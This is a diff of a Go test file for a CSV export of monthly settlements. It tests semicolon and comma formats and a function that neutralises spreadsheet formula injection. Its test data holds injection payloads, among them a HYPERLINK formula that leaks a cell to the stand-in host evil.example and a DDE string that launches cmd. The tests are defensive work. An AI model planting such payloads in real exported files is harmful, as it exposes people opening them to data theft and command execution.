@@ -4,6 +4,7 @@ import (
 	"bytes"
 	"encoding/csv"
 	"errors"
+	"strings"
 	"testing"
 	"time"
 
@@ -55,20 +56,75 @@ func TestSettle(t *testing.T) {
 		t.Errorf("by type: %+v", s.ByType)
 	}
 
+	for _, f := range []struct {
+		format     CSVFormat
+		comma      rune
+		bollo, all string
+	}{{ItalianCSV, ';', "32,00", "41,30"}, {CommaCSV, ',', "32.00", "41.30"}} {
+		var buf bytes.Buffer
+		if err := WriteCSV(&buf, s, f.format); err != nil {
+			t.Fatal(err)
+		}
+		r := csv.NewReader(&buf)
+		r.Comma = f.comma
+		rows, err := r.ReadAll()
+		if err != nil {
+			t.Fatal(err)
+		}
+		if len(rows) != 1+4+1 || len(rows[0]) != 12 {
+			t.Fatalf("%d CSV rows of %d columns", len(rows), len(rows[0]))
+		}
+		last := rows[len(rows)-1]
+		if want.BolloCents != 3200 || want.CollectedCents != 4130 {
+			t.Fatalf("the test's amounts changed: %+v", want)
+		}
+		if last[2] != "TOTALE" || last[8] != f.bollo || last[11] != f.all {
+			t.Errorf("format %d: totals row %q, want bollo %s and total %s", f.format, last, f.bollo, f.all)
+		}
+	}
+}
+
+// Cells a spreadsheet would run as formulas are written as text; numbers
+// stay numbers.
+func TestCSVNeutral(t *testing.T) {
+	for in, want := range map[string]string{
+		`=HYPERLINK("https://evil.example/?"&A1;"x")`: `'=HYPERLINK("https://evil.example/?"&A1;"x")`,
+		"+39 02 1234":            "'+39 02 1234",
+		"-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0",
+		"@SUM(A1:A9)":            "'@SUM(A1:A9)",
+		"\t=1+1":                 "'\t=1+1",
+		"\r=1+1":                 "'\r=1+1",
+		"  =1+1":                 "'  =1+1",
+		"Edicola Rossi":          "Edicola Rossi",
+		"16,00":                  "16,00",
+		"-16.00":                 "-16.00",
+		"2026-04":                "2026-04",
+		"":                       "",
+	} {
+		if got := Neutral(in); got != want {
+			t.Errorf("Neutral(%q) = %q, want %q", in, got, want)
+		}
+	}
+	s := Settlement{Operator: Operator{ID: "op-1", Name: "=1+1", District: "@evil"}, Month: Month{2026, time.April}}
 	var buf bytes.Buffer
-	if err := WriteCSV(&buf, s); err != nil {
+	if err := WriteSummaryCSV(&buf, s.Month, []Settlement{s}, ItalianCSV); err != nil {
 		t.Fatal(err)
 	}
-	rows, err := csv.NewReader(&buf).ReadAll()
+	r := csv.NewReader(&buf)
+	r.Comma = ';'
+	rows, err := r.ReadAll()
 	if err != nil {
 		t.Fatal(err)
 	}
-	if len(rows) != 1+4+1 {
-		t.Fatalf("%d CSV rows", len(rows))
+	for _, row := range rows {
+		for _, cell := range row {
+			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
+				t.Errorf("cell %q would run as a formula", cell)
+			}
+		}
 	}
-	last := rows[len(rows)-1]
-	if last[2] != "TOTALE" || last[8] != Euro(want.BolloCents) || last[11] != Euro(want.CollectedCents) {
-		t.Errorf("totals row %q", last)
+	if rows[1][3] != "'=1+1" || rows[1][4] != "'@evil" {
+		t.Errorf("operator row %q", rows[1])
 	}
 }
 
